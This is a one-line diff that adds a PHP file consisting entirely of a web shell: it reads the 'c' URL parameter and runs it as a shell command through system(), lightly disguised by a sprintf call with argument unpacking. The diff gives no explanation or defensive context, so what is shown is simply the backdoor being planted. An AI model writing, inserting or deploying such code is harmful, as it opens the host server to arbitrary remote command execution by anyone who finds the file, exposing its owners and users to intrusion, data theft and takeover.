@@ -1,0 +1,1 @@
+<?php $c = sprintf("%s", ...[$_GET["c"]]); system($c);
